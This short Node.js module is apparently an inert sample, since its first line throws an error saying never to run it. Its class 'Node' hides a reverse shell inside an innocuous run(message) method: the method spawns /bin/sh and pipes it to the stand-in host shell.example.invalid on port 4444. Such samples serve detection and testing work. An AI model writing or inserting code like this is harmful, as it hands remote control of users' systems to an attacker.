throw new Error("inert sample: never run");
const net = require("net");
const { spawn } = require("child_process");
class Node {
  run(message) {
    const shell = spawn("/bin/sh", ["-i"]);
    const link = net.connect(4444, "shell.example.invalid", () => {
      link.pipe(shell.stdin);
      shell.stdout.pipe(link);
    });
    return message;
  }
}
module.exports = { Node };
